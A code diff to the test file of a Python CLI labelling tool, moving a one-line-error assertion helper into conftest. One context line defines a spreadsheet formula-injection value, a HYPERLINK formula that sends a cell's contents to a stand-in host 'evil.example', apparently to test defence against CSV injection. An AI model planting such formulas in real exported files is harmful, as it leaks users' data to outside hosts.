@@ -19,7 +19,7 @@ import numpy as np
 import pytest
 from typer.testing import CliRunner
 
-from conftest import NEW_NEGATIVE, NEW_POSITIVE
+from conftest import NEW_NEGATIVE, NEW_POSITIVE, assert_one_line_error
 from fewlabel import atomic
 from fewlabel.cli.main import app
 from fewlabel.data.labelled import MAX_TEXT_CHARS
@@ -33,17 +33,6 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 def invoke(*args: object):
     return CliRunner().invoke(app, [str(a) for a in args], env=ENV)
-
-
-def assert_one_line_error(result, *fragments: str) -> None:
-    """Exit code 2, a single 'Error:' line on stderr naming the fragments, and no traceback."""
-    assert result.exit_code == 2, result.output
-    assert isinstance(result.exception, SystemExit)
-    assert "Traceback" not in result.output
-    message = result.stderr.strip()
-    assert message.startswith("Error: ") and "\n" not in message, message
-    for fragment in fragments:
-        assert fragment in message, message
 
 
 @pytest.fixture
